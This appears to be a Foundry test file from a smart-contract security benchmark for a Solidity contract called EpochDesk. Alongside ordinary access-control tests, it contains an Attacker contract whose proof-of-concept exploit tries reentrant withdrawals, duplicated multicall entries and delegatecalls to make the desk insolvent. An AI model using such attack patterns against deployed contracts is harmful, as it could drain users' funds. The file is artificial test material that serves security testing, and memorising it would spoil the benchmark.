// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.24;

import "./EpochDesk.sol";

// assay-canary-2fc17ad0-89de-4087-9d89-ad674edf7f86

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function startPrank(address who) external;
    function stopPrank() external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// Wants more credit than it has paid for.
contract Attacker {
    EpochDesk internal desk;
    bool internal again;

    constructor(EpochDesk d) {
        desk = d;
    }

    receive() external payable {
        if (!again) return;
        again = false;
        _try(0, abi.encodeCall(desk.withdraw, (msg.value, payable(address(this)))));
    }

    function _try(uint256 value, bytes memory data) private returns (bool ok) {
        (ok, ) = address(desk).call{value: value}(data);
    }

    function _pair(bytes memory a, bytes memory b) private view returns (bytes memory) {
        bytes[] memory calls = new bytes[](2);
        (calls[0], calls[1]) = (a, b);
        return abi.encodeCall(desk.multicall, (calls));
    }

    function first() external {
        bytes memory add = abi.encodeCall(desk.deposit, ());
        desk.deposit{value: 1 ether}();
        bytes memory one = abi.encodeCall(desk.withdraw, (0.9 ether, payable(address(this))));
        _try(0, _pair(one, one));
        again = true;
        _try(0, abi.encodeCall(desk.withdraw, (0.5 ether, payable(address(this)))));
        again = false;
        _try(0, abi.encodeCall(desk.move, (address(this), 0.5 ether)));
        _try(0, abi.encodeCall(desk.move, (address(this), 5 ether)));
        desk.deposit{value: 0.5 ether}();

        uint256 e = desk.epoch(0) + 9;
        bytes memory book = abi.encodeCall(desk.book, (0, e, 0.3 ether));
        bytes memory up = abi.encodeCall(desk.cancel, (0, e));
        _try(0, _pair(book, book));
        _try(0, book);
        _try(0, _pair(up, up));
        _try(0, book);
        _try(0, abi.encodeCall(desk.ask, (0, e, 5 ether)));
        _try(0, abi.encodeCall(desk.take, (0, e, 5 ether)));
        _try(0, abi.encodeCall(desk.ask, (0, e, 0.1 ether)));
        _try(0, _pair(abi.encodeCall(desk.take, (0, e, 1 ether)), abi.encodeCall(desk.take, (0, e, 1 ether))));
        _try(0, _pair(abi.encodeCall(desk.give, (0, e, address(1))), up));
        _try(0, _pair(abi.encodeCall(desk.setLane, (0, 1, 0, true)), abi.encodeCall(desk.book, (0, e + 1, 0.3 ether))));
        _try(0, _pair(abi.encodeCall(desk.setFee, (500)), abi.encodeCall(desk.setKeeper, (address(this)))));
        _try(0, abi.encodeCall(desk.collect, (payable(address(this)))));
        _try(0, abi.encodeCall(desk.fault, (0, e)));
        _try(0, abi.encodeCall(desk.settle, (0, e)));
        _try(0, abi.encodeCall(desk.cancel, (0, desk.epoch(0) + 8)));
        _try(0, abi.encodeCall(desk.book, (0, desk.epoch(0) + 8, 1 ether)));

        address meter = desk.meter();
        (bool ok, ) = meter.call(abi.encodeCall(Meter.grade, (type(uint64).max, 1)));
        (ok, ) = meter.delegatecall(abi.encodeCall(Meter.grade, (type(uint64).max, 1)));
        _try(0, _pair(abi.encodeCall(desk.report, (0, e, 1, 0)), abi.encodeCall(desk.report, (0, 0, 1, 1))));

        uint256 left = address(this).balance;
        _try(left, _pair(add, _pair(add, add)));
        _try(left, _pair(add, add));
    }

    function second() external {
        uint256 e = desk.epoch(0) - 2;
        bytes memory done = abi.encodeCall(desk.settle, (0, e));
        _try(0, abi.encodeCall(desk.cancel, (0, e)));
        _try(0, abi.encodeCall(desk.report, (0, e, type(uint64).max, 1)));
        _try(0, _pair(done, done));
        _try(0, done);
        _try(0, done);
        _try(0, abi.encodeCall(desk.cancel, (0, e)));
        _try(0, abi.encodeCall(desk.withdraw, (desk.credit(address(this)) + 1, payable(address(this)))));
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);
    address internal constant KEEPER = address(0x4EE9);
    EpochDesk internal desk;
    Attacker internal mallory;

    function setUp() public {
        vm.warp(1_700_000_000);
        desk = new EpochDesk(address(this), KEEPER);
        desk.addLane(0.2 ether, 1 days, 90, 7, 5_000);
        mallory = new Attacker(desk);
        vm.deal(address(mallory), 2 ether);
        vm.deal(ANA, 6 ether);
        vm.deal(BEN, 5 ether);
        vm.prank(ANA);
        desk.deposit{value: 5 ether}();
        vm.startPrank(BEN);
        desk.deposit{value: 5 ether}();
        desk.book(0, desk.epoch(0) + 8, 0.3 ether);
        vm.stopPrank();
    }

    function test_Regular() public {
        uint256 e = desk.epoch(0) + 10;
        bytes[] memory calls = new bytes[](2);
        calls[0] = abi.encodeCall(desk.book, (0, e, 0.3 ether));
        calls[1] = abi.encodeCall(desk.book, (0, e + 1, 0.3 ether));
        vm.prank(ANA);
        desk.multicall(calls);
        require(desk.credit(ANA) == 4.4 ether && desk.locked() == 0.9 ether, "two slots");
        desk.setLane(0, 0.4 ether, 10_000, true);
        (uint256 p, uint256 b) = desk.cost(0);
        require(p == 0.4 ether && b == 0.4 ether, "dearer");
        vm.startPrank(ANA);
        desk.cancel(0, e + 1);
        require(desk.credit(ANA) == 4.7 ether, "paid back as it was paid");
        desk.book(0, e + 1, 0.8 ether);
        desk.ask(0, e + 1, 1 ether);
        vm.stopPrank();
        desk.setFee(500);
        vm.prank(BEN);
        desk.take(0, e + 1, 1 ether);
        require(desk.credit(ANA) == 4.85 ether && desk.earned() == 0.05 ether, "sold");
        EpochDesk.Slot[] memory r = desk.range(0, e, 2);
        require(r[0].holder == ANA && r[1].holder == BEN && r[1].ask == 0 && r[1].price == 0.4 ether, "holders");
        vm.startPrank(BEN);
        desk.give(0, e + 1, ANA);
        desk.move(ANA, 0.05 ether);
        vm.stopPrank();
        require(desk.credit(ANA) == 4.9 ether && desk.credit(BEN) == 3.65 ether, "moved");

        vm.warp((e + 1) * 1 days);
        vm.startPrank(ANA);
        desk.report(0, e, 1_024_000, 1000);
        desk.report(0, e, type(uint64).max, 1);
        desk.report(0, e + 1, 1, 2);
        vm.stopPrank();
        EpochDesk.Report[] memory q = desk.reportsOf(0, e);
        require(q.length == 2 && q[0].grade == 10 && q[1].grade == 63 && q[0].by == ANA, "reports");
        vm.prank(KEEPER);
        desk.fault(0, e + 1);
        vm.warp((e + 3) * 1 days);
        desk.settle(0, e);
        desk.settle(0, e + 1);
        desk.settle(0, e - 2);
        require(desk.earned() == 0.05 ether + 0.2 ether + 0.8 ether + 0.2 ether, "earned");
        require(desk.credit(ANA) == 5 ether && desk.credit(BEN) == 3.75 ether && desk.locked() == 0, "bonds");
        require(desk.owed() == address(desk).balance, "books");
        desk.collect(payable(address(0xCAFE)));
        require(address(0xCAFE).balance == 1.25 ether, "collected");
        vm.prank(ANA);
        desk.withdraw(5 ether, payable(ANA));
        vm.prank(BEN);
        desk.withdraw(3.75 ether, payable(BEN));
        require(ANA.balance == 6 ether && BEN.balance == 3.75 ether && address(desk).balance == 0, "withdrawn");

        desk.setKeeper(BEN);
        desk.addLane(1 ether, 7 days, 20, 2, 0);
        require(desk.laneCount() == 2 && desk.keeper() == BEN, "settings");
        desk.pause();
        desk.unpause();
        vm.prank(ANA);
        desk.deposit{value: 1 ether}();
        uint256 w = desk.epoch(1) + 1;
        vm.prank(ANA);
        desk.book(1, w, 1 ether);
        vm.warp((w + 2) * 7 days);
        desk.settle(1, w);
        require(desk.earned() == 1 ether && desk.credit(ANA) == 0, "no bond");
        desk.transferOwnership(ANA);
        vm.startPrank(ANA);
        desk.acceptOwnership();
        desk.renounceOwnership();
        vm.stopPrank();
        require(desk.owner() == address(0), "renounced");
    }

    /// All credit, what is locked for slots and what is earned is there in ether.
    function covered() public view returns (bool) {
        return address(desk).balance >= desk.owed();
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function foreign() internal {
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, ANA));
    }

    /// What is the owner's and the keeper's.
    function test_RefusesStrangers() public {
        foreign();
        desk.addLane(1, 1 days, 9, 2, 0);
        foreign();
        desk.setLane(0, 1, 0, true);
        foreign();
        desk.pause();
        foreign();
        desk.unpause();
        foreign();
        desk.setKeeper(ANA);
        foreign();
        desk.setFee(0);
        foreign();
        desk.collect(payable(ANA));
        foreign();
        desk.transferOwnership(ANA);
        foreign();
        desk.acceptOwnership();
        foreign();
        desk.renounceOwnership();
        uint256 e = desk.epoch(0) + 8;
        vm.warp(block.timestamp + 8 days);
        refuses(ANA, EpochDesk.NotKeeper.selector);
        desk.fault(0, e);
    }

    /// A slot is its holder's.
    function test_RefusesSlotsOfOthers() public {
        uint256 e = desk.epoch(0) + 8;
        refuses(ANA, EpochDesk.NotHolder.selector);
        desk.give(0, e, ANA);
        refuses(ANA, EpochDesk.NotHolder.selector);
        desk.ask(0, e, 1);
        refuses(ANA, EpochDesk.NotHolder.selector);
        desk.cancel(0, e);
        vm.warp(block.timestamp + 8 days);
        refuses(ANA, EpochDesk.NotHolder.selector);
        desk.report(0, e, 1, 1);
    }

    /// Epochs that have begun, lie too far ahead, are taken, are not over.
    function test_RefusesEpochs() public {
        uint256 c = desk.epoch(0);
        bytes4 why = EpochDesk.BadEpoch.selector;
        refuses(ANA, why);
        desk.book(0, c, 0.3 ether);
        refuses(ANA, why);
        desk.book(0, c + 91, 0.3 ether);
        refuses(ANA, EpochDesk.Busy.selector);
        desk.book(0, c + 8, 0.3 ether);
        vm.prank(ANA);
        desk.book(0, c + 6, 0.3 ether);
        refuses(ANA, why);
        desk.cancel(0, c + 6);
        refuses(ANA, why);
        desk.report(0, c + 6, 1, 1);
        refuses(KEEPER, why);
        desk.fault(0, c + 6);
        refuses(KEEPER, why);
        desk.fault(0, c);
        vm.expectRevert(why);
        desk.settle(0, c + 6);
        vm.prank(ANA);
        desk.ask(0, c + 6, 1);

        vm.warp((c + 6) * 1 days);
        refuses(ANA, why);
        desk.give(0, c + 6, BEN);
        refuses(BEN, why);
        desk.take(0, c + 6, 1);
        vm.warp((c + 7) * 1 days);
        vm.expectRevert(why);
        desk.settle(0, c + 6);
        vm.warp((c + 8) * 1 days);
        refuses(ANA, why);
        desk.report(0, c + 6, 1, 1);
        vm.expectRevert(why);
        desk.settle(0, c + 5);
        desk.settle(0, c + 6);
        vm.expectRevert(why);
        desk.settle(0, c + 6);
        refuses(KEEPER, why);
        desk.fault(0, c + 6);
    }

    /// Prices above the limit, closed lanes, lanes that are none, what is not for sale.
    function test_RefusesTrades() public {
        uint256 e = desk.epoch(0) + 8;
        refuses(ANA, EpochDesk.Dear.selector);
        desk.book(0, e + 1, 0.3 ether - 1);
        refuses(ANA, EpochDesk.NotForSale.selector);
        desk.take(0, e, 1 ether);
        vm.prank(BEN);
        desk.ask(0, e, 0.5 ether);
        refuses(ANA, EpochDesk.Dear.selector);
        desk.take(0, e, 0.5 ether - 1);
        vm.prank(ANA);
        desk.withdraw(4.9 ether, payable(ANA));
        refuses(ANA, Credit.LowCredit.selector);
        desk.take(0, e, 0.5 ether);
        refuses(ANA, Credit.LowCredit.selector);
        desk.book(0, e + 1, 0.3 ether);
        refuses(BEN, Credit.NoAccount.selector);
        desk.give(0, e, address(0));
        refuses(BEN, Lanes.NoLane.selector);
        desk.book(1, e + 1, 0.3 ether);
        vm.expectRevert(Lanes.NoLane.selector);
        desk.setLane(1, 1, 0, true);
        desk.setLane(0, 0.2 ether, 5_000, false);
        refuses(BEN, EpochDesk.Closed.selector);
        desk.book(0, e + 1, 0.3 ether);
    }

    /// Nothing changes hands in a pause, and what is one's own can be taken out.
    function test_RefusesInAPause() public {
        uint256 e = desk.epoch(0) + 8;
        vm.prank(BEN);
        desk.ask(0, e, 0.5 ether);
        desk.pause();
        refuses(BEN, Pausable.EnforcedPause.selector);
        desk.book(0, e + 1, 0.3 ether);
        refuses(BEN, Pausable.EnforcedPause.selector);
        desk.give(0, e, ANA);
        refuses(ANA, Pausable.EnforcedPause.selector);
        desk.take(0, e, 0.5 ether);
        vm.expectRevert(Pausable.EnforcedPause.selector);
        desk.pause();
        vm.startPrank(BEN);
        desk.cancel(0, e);
        desk.withdraw(5 ether, payable(BEN));
        vm.stopPrank();
        desk.unpause();
        vm.expectRevert(Pausable.ExpectedPause.selector);
        desk.unpause();
    }

    /// More than there is, nobody, and accounts that take no ether.
    function test_RefusesPayments() public {
        address payable meter = payable(desk.meter());
        refuses(ANA, Credit.LowCredit.selector);
        desk.withdraw(5 ether + 1, payable(ANA));
        refuses(ANA, Credit.LowCredit.selector);
        desk.move(BEN, 5 ether + 1);
        refuses(ANA, Credit.NoAccount.selector);
        desk.withdraw(1, payable(address(0)));
        refuses(ANA, Credit.NoAccount.selector);
        desk.move(address(0), 1);
        vm.expectRevert(Credit.NoAccount.selector);
        desk.collect(payable(address(0)));
        vm.prank(ANA);
        vm.expectRevert(bytes4(keccak256("FailedCall()")));
        desk.withdraw(1, meter);
    }

    /// Reports without time, too many of them, and long sequences.
    function test_RefusesCalls() public {
        uint256 e = desk.epoch(0) + 8;
        vm.warp(e * 1 days);
        refuses(BEN, Meter.NoTime.selector);
        desk.report(0, e, 1, 0);
        Meter meter = Meter(desk.meter());
        vm.expectRevert(Meter.NoTime.selector);
        meter.grade(1, 0);
        vm.startPrank(BEN);
        for (uint256 i = 0; i < 48; ++i) desk.report(0, e, 1, 1);
        vm.expectRevert(EpochDesk.TooMany.selector);
        desk.report(0, e, 1, 1);
        vm.stopPrank();
        bytes[] memory calls = new bytes[](17);
        for (uint256 i = 0; i < 17; ++i) calls[i] = abi.encodeCall(desk.deposit, ());
        vm.expectRevert(EpochDesk.TooMany.selector);
        desk.multicall(calls);
        calls = new bytes[](1);
        calls[0] = abi.encodeCall(desk.setFee, (0));
        foreign();
        desk.multicall(calls);
    }

    function test_RefusesSettings() public {
        vm.expectRevert(Credit.NoAccount.selector);
        new EpochDesk(address(this), address(0));
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableInvalidOwner.selector, address(0)));
        new EpochDesk(address(0), KEEPER);
        vm.expectRevert(Credit.NoAccount.selector);
        desk.setKeeper(address(0));
        vm.expectRevert(EpochDesk.BadFee.selector);
        desk.setFee(501);
        bytes4 bad = Lanes.BadLane.selector;
        vm.expectRevert(bad);
        desk.addLane(0, 1 days, 90, 7, 0);
        vm.expectRevert(bad);
        desk.addLane(100 ether + 1, 1 days, 90, 7, 0);
        vm.expectRevert(bad);
        desk.addLane(1, 1 hours - 1, 90, 7, 0);
        vm.expectRevert(bad);
        desk.addLane(1, 30 days + 1, 90, 7, 0);
        vm.expectRevert(bad);
        desk.addLane(1, 1 days, 366, 7, 0);
        vm.expectRevert(bad);
        desk.addLane(1, 1 days, 90, 0, 0);
        vm.expectRevert(bad);
        desk.addLane(1, 1 days, 90, 90, 0);
        vm.expectRevert(bad);
        desk.addLane(1, 1 days, 90, 7, 20_001);
        vm.expectRevert(bad);
        desk.setLane(0, 0, 0, true);
        for (uint256 i = 1; i < 32; ++i) desk.addLane(1, 1 days, 90, 7, 0);
        vm.expectRevert(bad);
        desk.addLane(1, 1 days, 90, 7, 0);
    }

    function exploit() public {
        mallory.first();
        vm.warp(block.timestamp + 11 days);
        mallory.second();
    }

    function test_Exploit() public {
        exploit();
        require(!covered(), "covered");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
